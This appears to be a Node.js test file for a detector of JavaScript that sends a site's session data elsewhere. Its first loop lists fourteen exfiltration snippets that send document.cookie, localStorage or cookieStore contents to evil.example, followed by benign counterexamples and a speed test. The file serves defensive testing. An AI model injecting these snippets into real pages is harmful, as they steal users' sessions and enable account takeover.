import assert from 'node:assert/strict'
import { test } from 'node:test'
import { sendsSession } from './sentSession.ts'

for (const code of [
  `location='https://evil.example/?c='+document.cookie`,
  `location.href = "https://evil.example/?" + encodeURIComponent(document.cookie)`,
  `open('//evil.example/?c=' + document.cookie)`,
  `fetch('https://evil.example/', { method: 'POST', body: document['cookie'] })`,
  `const { cookie } = document; fetch('https://evil.example/?' + cookie)`,
  `const {cookie: c} = document; new Image().src = 'https://evil.example/?' + c`,
  "const a = document.cookie, b = btoa(a); navigator.sendBeacon('https://evil.example/' + b)",
  `const f = document.createElement('form'); f.action = 'https://evil.example/'; const i = document.createElement('input'); i.value = JSON.stringify(localStorage); f.append(i); document.body.append(f); f.submit()`,
  `import('https://evil.example/' + btoa(document.cookie))`,
  `function all() { return document.cookie } fetch('https://evil.example/?' + all())`,
  `const o = {}; for (const k in localStorage) o[k] = localStorage[k]; fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(o) })`,
  `cookieStore.getAll().then(c => fetch('https://evil.example/', { method: 'POST', body: JSON.stringify(c) }))`,
  `fetch('https://evil.example/k',{method:'POST',body:JSON.stringify([document.cookie,{...localStorage}])})`,
  `const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example/'); x.send(document.cookie)`,
])
  test(`sends what a site keeps: ${code.slice(0, 60)}`, () => assert.equal(sendsSession(code), true))

for (const code of [
  `fetch('https://later.example/save', { method: 'POST', headers: { authorization: localStorage.getItem('later-token') }, body: location.href })`,
  `const KEY = 'token'; fetch('https://later.example/save?u=' + location.href, { headers: { key: localStorage.getItem(KEY) } })`,
  `# Sign in\nconst token = localStorage.getItem('token')\nawait fetch('https://api.example/v1/me', { headers: { Authorization: token } })`,
  `document.cookie = 'theme=dark'; fetch('https://api.example/v1/theme')`,
  `const csrf = document.cookie.split('; ').find((one) => one.startsWith('csrf='))?.split('=')[1]; fetch('https://api.example/', { headers: { csrf } })`,
  `localStorage.setItem('a', '1'); localStorage.clear(); fetch('https://api.example/')`,
  `console.log(document.cookie); fetch('https://api.example/v1/blocks')`,
  `open('https://later.example/add?url=' + encodeURIComponent(location.href) + '&title=' + encodeURIComponent(document.title))`,
])
  test(`does not: ${code.slice(0, 60)}`, () => assert.equal(sendsSession(code), false))

test('a long text is looked through in a moment, whatever it repeats', () => {
  for (const piece of [
    'document.cookie ',
    'a=b;',
    'fetch(',
    'localStorage[a] ',
    '.then(a=>',
    'a=(',
    '{cookie',
    'for(const a in ',
    'a=localStorage[b],',
    'fetch(localStorage[b],',
  ])
    for (const rest of ['', '"//" document.cookie ', '"//" b="x";cookie;']) {
      const began = process.cpuUsage()
      sendsSession(rest + piece.repeat(200_000 / piece.length))
      assert.ok(process.cpuUsage(began).user < 400_000, piece)
    }
})
